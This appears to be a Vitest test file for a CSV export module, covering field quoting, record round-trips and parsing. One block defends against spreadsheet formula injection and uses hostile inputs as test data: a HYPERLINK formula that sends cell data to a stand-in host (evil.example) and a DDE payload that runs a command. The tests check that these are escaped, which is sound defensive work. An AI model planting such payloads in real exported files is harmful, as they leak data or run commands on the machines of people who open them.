import { describe, expect, it } from "vitest";
import { csvField, csvRecord, parseCsv } from "./csv";

describe("csvField", () => {
  it("leaves plain text as it is", () => {
    expect(csvField("get_weather")).toBe("get_weather");
    expect(csvField("two words")).toBe("two words");
  });

  it("quotes fields with commas, quotes and line breaks, doubling the quotes", () => {
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("line\nbreak")).toBe('"line\nbreak"');
    expect(csvField("carriage\rreturn")).toBe('"carriage\rreturn"');
    expect(csvField('{"city":"Paris"}')).toBe('"{""city"":""Paris""}"');
  });

  it("writes numbers and booleans as text, and nothing for null, undefined and non-finite numbers", () => {
    expect(csvField(0.35)).toBe("0.35");
    expect(csvField(0)).toBe("0");
    expect(csvField(true)).toBe("true");
    expect(csvField(false)).toBe("false");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField(Number.NaN)).toBe("");
    expect(csvField(Number.POSITIVE_INFINITY)).toBe("");
  });

  it("keeps an empty string empty and leading spaces as they are", () => {
    expect(csvField("")).toBe("");
    expect(csvField("  padded ")).toBe("  padded ");
  });
});

// Issue 31: uploaded names, tool names and responses reached spreadsheets as formulas.
describe("csvField and spreadsheet formulas (OWASP CSV injection)", () => {
  it.each([
    ["a transcript name", '=HYPERLINK("https://evil.example/?d="&A1,"open")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`],
    ["a tool name", "=1+2", `"'=1+2"`],
    ["a response", "@SUM(1)", `"'@SUM(1)"`],
    ["a plus", "+1+2", `"'+1+2"`],
    ["a minus", "-2+3", `"'-2+3"`],
    ["a command", "-cmd|' /C calc'!A0", `"'-cmd|' /C calc'!A0"`],
    ["a tab", "\t=1+2", `"'\t=1+2"`],
    ["a carriage return", "\r=1+2", `"'\r=1+2"`],
    ["a NUL", "\u0000=1+2", `"'\u0000=1+2"`],
    ["a lone equals sign", "=", `"'="`],
    ["a word after a minus", "-Infinity", `"'-Infinity"`],
  ])("escapes %s with a quote mark, in a quoted field", (_, value, field) => {
    expect(csvField(value)).toBe(field);
    // Read back, the cell is the text with its quote mark: a spreadsheet shows it as text.
    expect(parseCsv(`${field}\r\n`)).toEqual([[`'${value}`]]);
  });

  it("keeps numbers numbers, written as numbers or as text", () => {
    for (const number of [-1.5, -0, -1e-7, -42, 1e21]) expect(csvField(number)).toBe(String(number));
    for (const text of ["-1.5", "+3", "-.5", "+1e5", "-2E-3", "-1.", "1e21"]) expect(csvField(text)).toBe(text);
  });

  it("leaves formula characters alone after the first one", () => {
    expect(csvField("get_weather=1")).toBe("get_weather=1");
    expect(csvField("a@b.example")).toBe("a@b.example");
    expect(csvField(" =1+2")).toBe(" =1+2");
  });

  it("quotes a field with a semicolon, which some spreadsheets read as the separator", () => {
    // Unquoted, "a;=1+2" would open as two cells, the second a formula.
    expect(csvField("a;=1+2")).toBe('"a;=1+2"');
    expect(parseCsv(csvRecord(["a;=1+2", "b"]))).toEqual([["a;=1+2", "b"]]);
  });
});

describe("csvRecord", () => {
  it("joins fields with commas and ends with CRLF", () => {
    expect(csvRecord(["a", 1, null, true])).toBe("a,1,,true\r\n");
    expect(csvRecord([])).toBe("\r\n");
  });

  it("reads back field for field, however awkward the text", () => {
    const awkward = ['He said "no", then\r\nleft', "", ",", '"', "\n", "naïve – ünïcödé 🚀", '[{"check":"x","message":"a, b"}]'];
    const text = csvRecord(["header", "other"]) + csvRecord(awkward) + csvRecord(["x", "y"]);
    expect(parseCsv(text)).toEqual([["header", "other"], awkward, ["x", "y"]]);
  });
});

describe("parseCsv", () => {
  it("reads LF line breaks and a last record without one", () => {
    expect(parseCsv("a,b\nc,d")).toEqual([["a", "b"], ["c", "d"]]);
    expect(parseCsv('a,"x\ny"\n')).toEqual([["a", "x\ny"]]);
    expect(parseCsv("")).toEqual([]);
  });

  it("keeps empty fields, at the end of a record too", () => {
    expect(parseCsv("a,,\r\n,b,\r\n")).toEqual([["a", "", ""], ["", "b", ""]]);
  });
});
